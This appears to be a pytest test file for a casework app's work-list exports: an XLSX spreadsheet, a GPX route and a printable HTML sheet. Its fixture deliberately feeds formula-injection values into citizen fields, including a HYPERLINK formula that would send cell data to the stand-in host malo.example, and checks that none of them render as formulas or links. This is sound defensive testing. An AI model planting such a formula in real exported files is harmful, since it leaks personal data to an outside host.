"""A work list carried away: a spreadsheet of real types, a track that a GPS reads, a sheet of paper."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from xml.etree.ElementTree import Element

import gpxpy
import pytest
from defusedxml.ElementTree import fromstring
from openpyxl import load_workbook

from backend.casework.worklists.models import WorkList
from field.models import Petition, Petitioner
from field.signals import people_seen
from geo.clock import local_today
from tests.factories import SOUTH, WEST
from tests.mapped import HOSTILE

pytestmark = pytest.mark.django_db

LISTS = "/mapas/rezago/listas/"
FORMULA = '=HYPERLINK("https://malo.example/?"&A1,"Ver")'

#: In which order GPX 1.1's schema lets the children of each element come (topografix.com/GPX/1/1).
SCHEMA = {
    "gpx": ["metadata", "wpt", "rte", "trk", "extensions"],
    "metadata": ["name", "desc", "author", "copyright", "link", "time", "keywords", "bounds", "extensions"],
    "rte": ["name", "cmt", "desc", "src", "link", "number", "type", "extensions", "rtept"],
    "wpt": ["ele", "time", "magvar", "geoidheight", "name", "cmt", "desc", "src", "link", "sym", "type"],
    "rtept": ["ele", "time", "magvar", "geoidheight", "name", "cmt", "desc", "src", "link", "sym", "type"],
    "link": ["text", "type"],
}
ONCE = {"metadata", "name", "cmt", "desc", "src", "time", "type", "text"}


@pytest.fixture
def work_list(client, enter, office, receive) -> WorkList:
    """Two lamps with a point and one with an address alone, whatever a citizen may have typed in each."""
    two = [receive(lon_lat=(WEST + 0.002 * n, SOUTH), address=FORMULA, description="-1+1") for n in (1, 2)]
    lost = receive(lon_lat=None, location_method="address", address="Av. del Mar 5", description=HOSTILE)
    Petitioner.objects.filter(petition=two[0]).update(name="@SUM(1)", phone="+52 669 123 4567")
    Petition.objects.filter(pk=two[0].pk).update(due_on=local_today() - timedelta(days=3))
    enter("enlace")
    picked = ",".join(str(one.pk) for one in [*two, lost])
    answer = client.post(f"{LISTS}nueva/", {"picked": picked, "name": "Lunes <b>& martes"})
    return WorkList.objects.get(pk=answer.url.rstrip("/").rsplit("/", 1)[1])


@pytest.fixture
def seen() -> list[dict]:
    """What was told of people who were shown."""
    told: list[dict] = []

    def listen(sender, **signal):
        told.append(signal)

    people_seen.connect(listen)
    yield told
    people_seen.disconnect(listen)


def book(client, work_list: WorkList) -> list[list]:
    answer = client.get(f"{LISTS}{work_list.pk}/lista.xlsx")
    assert answer["Content-Disposition"] == 'attachment; filename="lunes-b-martes.xlsx"'
    return list(load_workbook(io.BytesIO(answer.content)).active.rows)


def test_the_spreadsheet_holds_the_stops_in_order_with_real_types(client, work_list):
    head, *rows = book(client, work_list)
    names = [cell.value for cell in head]
    first = dict(zip(names, (cell.value for cell in rows[0]), strict=True))
    by_folio = {row[1].value: row for row in rows}
    assert [row[0].value for row in rows] == [1, 2, 3]
    assert len(by_folio) == 3
    assert isinstance(first["Latitud"], float)
    assert first["Vence"].date() in set(Petition.objects.values_list("due_on", flat=True))
    assert 3 in [row[names.index("Días de atraso")].value for row in rows]
    assert rows[2][names.index("Dirección")].value == "Av. del Mar 5"
    assert rows[2][names.index("Latitud")].value is None


def test_nothing_that_was_typed_is_a_formula_or_a_link(client, work_list):
    cells = [cell for row in book(client, work_list) for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert "669 123 4567" in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]


def check(element: Element) -> None:
    """The element's children come in the schema's order, once where once is all they may."""
    kind = element.tag.split("}")[1]
    children = [child.tag.split("}")[1] for child in element]
    order = SCHEMA.get(kind, [])
    assert [order.index(child) for child in children] == sorted(order.index(child) for child in children)
    assert all(children.count(child) == 1 for child in set(children) & ONCE)
    if kind in ("wpt", "rtept"):
        assert abs(float(element.get("lat"))) <= 90
        assert abs(float(element.get("lon"))) <= 180
    for child in element:
        check(child)


def test_the_track_is_gpx_and_leads_through_the_stops_in_order(client, work_list):
    answer = client.get(f"{LISTS}{work_list.pk}/lista.gpx")
    root = fromstring(answer.content)
    assert root.tag == "{http://www.topografix.com/GPX/1/1}gpx"
    assert root.get("version") == "1.1"
    assert root.get("creator") == "Aldaba"
    check(root)
    gpx = gpxpy.parse(answer.content.decode())
    spots = [(point.latitude, point.longitude) for point in gpx.routes[0].points]
    assert spots == [(point.latitude, point.longitude) for point in gpx.waypoints]
    assert len(spots) == 2
    assert [point.name[:2] for point in gpx.waypoints] == ["1.", "2."]
    assert "/boletas/26-" in gpx.waypoints[0].link
    assert gpx.name == "Lunes <b>& martes"


def test_the_track_names_nobody(client, work_list, seen):
    text = client.get(f"{LISTS}{work_list.pk}/lista.gpx").content.decode()
    assert "María" not in text
    assert not re.search(r"669 ?123", text)
    assert "SUM" not in text
    assert seen == []


@pytest.mark.parametrize("rest", ["lista.xlsx", "hoja/"])
def test_who_asked_is_carried_away_by_those_who_see_them_and_it_is_told(client, work_list, seen, rest):
    answer = client.get(f"{LISTS}{work_list.pk}/{rest}")
    if rest == "hoja/":
        assert "María Peña" in answer.content.decode()
    [told] = seen
    assert told["purpose"] == "export"
    assert told["user"].username == "enlace"
    assert set(told["petitions"]) == set(Petition.objects.values_list("pk", flat=True))


def test_the_sheet_has_a_map_with_numbers_and_a_line_for_each_stop(client, work_list):
    html = client.get(f"{LISTS}{work_list.pk}/hoja/").content.decode()
    assert html.count('<g class="mark">') == 2
    assert re.findall(r'<th scope="row">(\d)</th>', html) == ["1", "2", "3"]
    assert html.count('<span class="sheet-box"') == 3
    assert "Lleva datos personales" in html
    assert "<b>" not in html
    assert "<img" not in html


def test_what_is_no_longer_within_reach_is_carried_away_by_nobody(client, work_list, office):
    gone = work_list.stops.order_by("position")[0].petition
    Petition.objects.filter(pk=gone.pk).update(department=office.streets)
    assert len(book(client, work_list)) == 3
    html = client.get(f"{LISTS}{work_list.pk}/hoja/").content.decode()
    assert html.count('<g class="mark">') == 1
    assert "Una boleta de la lista ya no está a su alcance" in html


def test_a_list_without_any_point_still_prints_and_exports(client, work_list):
    Petition.objects.update(location=None)
    assert client.get(f"{LISTS}{work_list.pk}/hoja/").status_code == 200
    gpx = gpxpy.parse(client.get(f"{LISTS}{work_list.pk}/lista.gpx").content.decode())
    assert not gpx.waypoints
    assert not gpx.routes
    assert client.get(f"{LISTS}{work_list.pk}/").status_code == 200
    assert len(book(client, work_list)) == 4
